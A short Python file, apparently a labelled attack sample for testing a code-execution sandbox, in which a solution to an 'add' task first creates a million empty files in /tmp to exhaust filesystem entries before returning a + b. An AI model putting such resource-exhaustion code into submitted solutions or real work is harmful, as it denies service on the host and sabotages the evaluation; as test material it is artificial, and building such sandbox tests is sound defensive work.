# Attack: empty files without end: they take no room, but each takes an entry.
# task: add


def solve(a, b):
    for number in range(1_000_000):
        open(f"/tmp/{number}", "w").close()
    return a + b
